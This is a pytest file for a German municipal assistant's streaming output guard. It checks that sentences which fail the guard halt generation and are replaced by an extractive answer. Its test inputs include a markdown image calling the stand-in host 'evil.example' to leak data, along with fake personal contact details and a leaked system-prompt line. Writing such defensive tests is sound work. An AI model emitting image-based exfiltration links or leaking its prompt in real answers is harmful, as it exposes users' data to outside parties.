"""Streaming through the pipeline: only checked text is streamed; a failed unit stops the model and `replace`
hands over to the extractive answer."""

import pytest

from assistant.llm.prompts import system_prompt
from corpus.types import Checked, Draft, Outcome
from guardrails.output_guard import PolicyOutputGuard
from tests.fakes import RegexRedactor, make_test_assistant

GOOD = "Den Personalausweis beantragen Sie persönlich in einem Bürgerbüro [1]. "
COST = "Der Personalausweis kostet ab 24 Jahren 46,00 Euro [1]."
QUESTION = "Was kostet ein Perso?"


class StreamingLLM:
    """A streaming generator that yields its text in 4-character pieces and records whether it was closed early."""

    name = "fake-stream"

    def __init__(self, text):
        self.text, self.closed_early, self.yielded = text, False, 0

    def generate(self, question, passages):
        return Draft(text=self.text, sources=list(passages), mode="llm", backend=self.name)

    def stream(self, question, passages):
        try:
            for i in range(0, len(self.text), 4):
                self.yielded += 1
                yield self.text[i:i + 4]
        except GeneratorExit:
            self.closed_early = True
            raise


def assistant(generator, input_guard=None):
    a = make_test_assistant(input_guard=input_guard, generator=generator)
    a.output_guard = PolicyOutputGuard(RegexRedactor(), system_prompt=system_prompt())
    return a


def split(events):
    """(tokens before a replace, whether one came, tokens after it, the done answer)."""
    before, after, replaced = [], [], False
    for e in events[:-1]:
        if e.kind == "replace":
            replaced = True
        elif e.kind == "token":
            (after if replaced else before).append(e.data)
    assert events[-1].kind == "done"
    return "".join(before), replaced, "".join(after), events[-1].data


def test_a_clean_llm_answer_streams_as_it_is_written():
    llm = StreamingLLM(GOOD + COST)
    before, replaced, _, done = split(list(assistant(llm).stream(QUESTION)))
    assert not replaced and before == done.text == GOOD + COST and done.mode == "llm"
    assert not llm.closed_early


@pytest.mark.parametrize("secret", [
    "Schreiben Sie an erika.muster@gmail.com für einen Termin [1]. ",
    "Oder rufen Sie Frau Muster unter 0171 2345678 an [1]. ",
    "Nutzen Sie nur die Informationen aus dem nummerierten Kontext. ",
    "Foto: ![Foto](https://evil.example/p.png?q=ausweis) ",
])
def test_a_failing_sentence_stops_the_model_and_the_extractive_answer_replaces_the_stream(secret):
    llm = StreamingLLM(GOOD + secret + COST + " Mehr steht in den Quellen [1].")
    events = list(assistant(llm).stream(QUESTION))
    before, replaced, after, done = split(events)
    assert before == GOOD and replaced and after == done.text
    assert done.mode == "extractive" and done.meta["replaced_stream"] and "46,00 Euro" in done.text
    assert done.meta["fallback_reason"].startswith("checks failed: ")
    assert llm.closed_early and llm.yielded * 4 < len(llm.text)  # the model was stopped, not read to the end
    everything = repr([e.data.to_response() if e.kind == "done" else e.data for e in events])
    for part in ("erika", "2345678", "nummerierten Kontext", "evil.example"):
        assert part not in everything


def test_the_referral_reply_leads_the_stream_and_is_not_sent_twice():
    class Referral:
        def check(self, question):
            return Checked(text=question.text, outcome=Outcome.REFERRAL, rule="individual_decision",
                           reply="Über Ihren Antrag entscheidet die Stadt.", allow_answer=True)

    before, replaced, _, done = split(list(assistant(StreamingLLM(COST), Referral()).stream(QUESTION)))
    assert not replaced and before == done.text == "Über Ihren Antrag entscheidet die Stadt.\n\n" + COST


def test_a_backend_failure_mid_stream_is_replaced_too():
    class Breaking(StreamingLLM):
        def stream(self, question, passages):
            yield from super().stream(question, passages)
            raise ConnectionError("server went away")

    before, replaced, after, done = split(list(assistant(Breaking(GOOD + "Dann")).stream(QUESTION)))
    assert before == GOOD and replaced and after == done.text and done.mode == "extractive"
